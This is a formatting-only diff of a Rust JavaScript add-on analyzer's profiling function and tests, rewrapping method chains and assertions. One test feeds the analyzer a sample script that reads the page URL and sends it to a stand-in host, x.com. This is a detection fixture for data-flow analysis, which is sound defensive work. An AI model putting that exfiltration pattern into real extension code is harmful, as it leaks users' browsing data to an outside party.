@@ -432,9 +432,7 @@ pub fn analyze_addon(source: &str) -> Result<Report, Error> {
 /// parse failures (and a budget trip so early the attribution sink is
 /// empty alongside a missing profile) surface as `Err`.
 pub fn profile_addon(source: &str, config: &AnalysisConfig) -> Result<JobProfile, Error> {
-    let pinned = config
-        .clone()
-        .with_worklist(jsanalysis::WorklistOrder::Rpo);
+    let pinned = config.clone().with_worklist(jsanalysis::WorklistOrder::Rpo);
     match Pipeline::new().config(pinned).profile(true).run(source) {
         Ok(report) => Ok(report
             .profile
@@ -555,7 +553,11 @@ mod tests {
     #[test]
     fn budget_abort_profiles_only_the_layers_that_ran() {
         let config = AnalysisConfig::default().with_step_budget(1);
-        match Pipeline::new().config(config).profile(true).run("var x = 1; var y = x;") {
+        match Pipeline::new()
+            .config(config)
+            .profile(true)
+            .run("var x = 1; var y = x;")
+        {
             Err(Error::Budget {
                 profile: Some(profile),
                 ..
@@ -575,7 +577,11 @@ mod tests {
             .run("var u = content.location.href; var r = XHRWrapper(\"http://x.com\"); r.send(u);")
             .unwrap();
         let shape: Vec<(Layer, usize)> = spans.spans().iter().map(|s| (s.layer, s.depth)).collect();
-        assert_eq!(shape, Layer::ALL.map(|l| (l, 0)), "one flat span per layer, in order");
+        assert_eq!(
+            shape,
+            Layer::ALL.map(|l| (l, 0)),
+            "one flat span per layer, in order"
+        );
         // Tracer counters and Report counters are the same totals.
         assert_eq!(spans.counters(), &report.counters);
         assert!(report.counters.get(Counter::SignatureFlows) > 0);
@@ -605,7 +611,10 @@ mod tests {
             expected.push(Layer::Infer);
             let shape: Vec<(Layer, usize)> =
                 spans.spans().iter().map(|s| (s.layer, s.depth)).collect();
-            assert_eq!(shape, expected.into_iter().map(|l| (l, 0)).collect::<Vec<_>>());
+            assert_eq!(
+                shape,
+                expected.into_iter().map(|l| (l, 0)).collect::<Vec<_>>()
+            );
         }
     }
 
@@ -635,7 +644,10 @@ mod tests {
             let ran = |t: &LayerTimes| t.iter().map(|(l, _)| l).collect::<Vec<_>>();
             assert_eq!(ran(&bp.layers), ran(&pp.layers));
             assert_eq!(bp.layers, both.timings);
-            let pdg_layers = ran(&both.timings).iter().filter(|l| l.phase() == Some(2)).count();
+            let pdg_layers = ran(&both.timings)
+                .iter()
+                .filter(|l| l.phase() == Some(2))
+                .count();
             assert_eq!(pdg_layers, if triaged { 0 } else { 4 });
             assert_eq!(both.timings.phase(2) == Duration::ZERO, triaged);
 
